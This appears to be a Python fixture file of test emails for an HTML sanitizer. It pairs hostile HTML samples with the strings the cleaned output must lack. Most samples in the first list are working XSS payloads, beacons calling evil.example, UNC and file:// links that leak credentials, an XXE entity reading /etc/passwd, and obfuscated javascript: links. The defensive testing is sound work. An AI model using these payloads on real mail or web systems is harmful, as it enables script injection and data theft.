"""More HTML that wants to reach out, and HTML that only wants to be read."""

from typing import Any

from tests.data.email.building.form import PNG, START, Mail, attached, lines, mail, multipart
from tests.data.email.building.form import html as page
from tests.data.email.building.html import SHA, shown


def read(name: str, why: str, source: str, text: str, **more: Any) -> Mail:
    """A mail of HTML and the words that a person reads of it."""
    return mail(f"text-{name}", why, lines(*START) + page(source), text=text, **more)


REACHING = [
    shown(
        "file-picture",
        "A picture on a stranger's file server gives away passwords.",
        '<p>Hola</p><img src="file://evil.example/p.png"><img src="\\\\evil.example\\p.png">',
        ["evil"],
    ),
    shown(
        "file-link",
        "Links into the reader's own machine.",
        '<a href="file:///etc/passwd">Hola</a><a href="\\\\evil.example\\x">dos</a>'
        '<a href="smb://evil.example/x">tres</a>',
        ["file:", "smb:", "passwd"],
    ),
    shown(
        "entity-link",
        "A link that runs, in entities.",
        '<a href="&#106;&#x61;vascript&colon;alert(1)">Hola</a>',
        ["alert"],
    ),
    shown("newline-link", "A link that runs, over lines.", '<a href="java\nscript\t:alert(1)">Hola</a>', ["alert"]),
    shown(
        "unquoted",
        "Attributes without quotes.",
        "<img src=http://evil.example/p.gif onerror=alert(1)//><p style=color:red onclick=alert(2)>Hola</p>",
        ["evil", "alert"],
    ),
    shown(
        "slash-attributes",
        "Slashes between attributes.",
        "<img/src=x/onerror=alert(1)><svg/onload=alert(2)><p>Hola</p>",
        ["onerror", "alert"],
    ),
    shown(
        "style-cid",
        "A background out of the mail is not worth a style that fetches.",
        '<div style="background-image:url(cid:p1@c)">Hola</div>',
        ["url("],
    ),
    shown(
        "style-comment",
        "A style that hides what it does.",
        '<div style="width:expr/**/ession(alert(1));background:u/**/rl(http://evil.example/)">Hola</div>',
        ["alert(1)", "evil"],
    ),
    shown(
        "style-var",
        "A variable of the style sheet.",
        '<div style="--x:url(http://evil.example/a);background:var(--x)">Hola</div>',
        ["evil"],
    ),
    shown(
        "font-remote",
        "A font from elsewhere.",
        '<style>@font-face{font-family:x;src:url(http://evil.example/f)}</style><p style="font-family:x">Hola</p>',
        ["evil", "@font-face"],
    ),
    shown(
        "input-image",
        "A button that is a picture from elsewhere.",
        '<input type=image src="http://evil.example/b.png"><p>Hola</p>',
        ["evil", "<input"],
    ),
    shown(
        "template",
        "What lies in a template is not seen and may come to life.",
        "<template><img src=x onerror=alert(1)></template><p>Hola</p>",
        ["alert", "<template"],
    ),
    shown(
        "details-toggle",
        "Things that open by themselves.",
        "<details open ontoggle=alert(1)><summary>Hola</summary>x</details><marquee onstart=alert(2)>y</marquee>",
        ["alert", "ontoggle", "onstart"],
    ),
    shown(
        "plaintext",
        "An element that never ends.",
        "<p>Hola</p><plaintext><img src=http://evil.example/p.gif>",
        ["<img src=http", "<plaintext"],
    ),
    shown(
        "image-element",
        "An old name of pictures.",
        '<p>Hola</p><image src="http://evil.example/p.gif" onerror=alert(1)>',
        ['src="http', "alert"],
    ),
    shown(
        "xml-island",
        "Data of Office.",
        "<xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml>"
        "<p class=MsoNormal>Hola<o:p></o:p></p>",
        ["<xml", "<o:"],
    ),
    shown(
        "processing",
        "What is for other programs.",
        '<?php system("x") ?><?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>Hola</p>',
        ["<?php", "<!ENTITY", "<!DOCTYPE"],
    ),
    shown(
        "animation",
        "A link that is changed later.",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg><p>Hola</p>",
        ["alert", "animate"],
    ),
    shown(
        "ping",
        "A link that tells somebody else.",
        '<a href="https://x.example/" ping="http://evil.example/">Hola</a>',
        ["ping", "evil"],
    ),
    shown(
        "popover",
        "A button of the new kind.",
        "<button popovertarget=x onclick=alert(1)>b</button><div popover id=x onbeforetoggle=alert(2)>Hola</div>",
        ["alert", "popover"],
    ),
    shown(
        "utf7",
        "A script in UTF-7 is text to a page in UTF-8.",
        "<p>Hola +ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>",
        ["<script"],
    ),
    mail(
        "cid-two-pictures",
        "Each picture at its place.",
        multipart(
            "related",
            page('<p>Hola <img src="cid:a@c"> y <img src=cid:b@c></p>'),
            attached(PNG, "Content-Type: image/png", "Content-ID: <a@c>"),
            attached(PNG + b"x", "Content-Type: image/png", "Content-ID: <b@c>"),
        ),
        html_contains=[SHA],
        html_lacks=["cid:"],
        attachments=[{"inline": True}, {"inline": True}],
    ),
]

READING = [
    read("paragraphs", "Paragraphs that are never closed.", "<p>Uno<p>Dos<p>Tres", "Uno Dos Tres"),
    read("preformatted", "What is laid out stays so.", "<pre>a  b\n  c</pre>", "a b c"),
    read(
        "entities",
        "Entities by name, by number, and none.",
        "<p>a&nbsp;b &lt;c&gt; &euro;5 &#233; &amp;amp; AT&T</p>",
        "a b <c> €5 é &amp; AT&T",
    ),
    read(
        "hidden-parts",
        "Head, styles, scripts and comments are no words.",
        "<html><head><title>T</title><style>s{}</style></head><body><!-- c --><script>x</script>"
        "<style>y{}</style>Hola<noscript></noscript></body></html>",
        "Hola",
    ),
    read(
        "links",
        "A link is its words.",
        '<p>Mira <a href="https://tienda.example/">nuestra tienda</a> ya.</p>',
        "Mira nuestra tienda ya.",
    ),
    read(
        "inline-elements",
        "Elements inside words part nothing.",
        "<p>ca<b>ñ</b>ón <i>azul</i>, 5<sup>o</sup></p>",
        "cañón azul, 5o",
    ),
    read("line-breaks", "Breaks are line ends.", "Uno<br>Dos<br/>Tres<BR />Cuatro", "Uno Dos Tres Cuatro"),
    read(
        "cells",
        "Cells are parted.",
        "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>",
        "a b c d",
    ),
    read(
        "outlook",
        "What Outlook makes of two lines.",
        '<html xmlns:o="urn:schemas-microsoft-com:office:office"><body lang=ES><div class=WordSection1>'
        "<p class=MsoNormal><span lang=ES>Hola,<o:p></o:p></span></p><p class=MsoNormal>no puedo entrar."
        "<o:p>&nbsp;</o:p></p></div></body></html>",
        "Hola, no puedo entrar.",
    ),
    read(
        "unclosed-comment",
        "A comment that never ends hides no more than a browser hides.",
        "<p>Hola</p><!-- nunca",
        "Hola",
    ),
    read(
        "doctype-only-head",
        "A page with a doctype of old.",
        '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN"><HTML><HEAD>'
        '<META NAME="Generator" CONTENT="x"></HEAD><BODY><FONT FACE="Arial">Hola</FONT></BODY></HTML>',
        "Hola",
    ),
]
MAILS = [*REACHING, *READING]
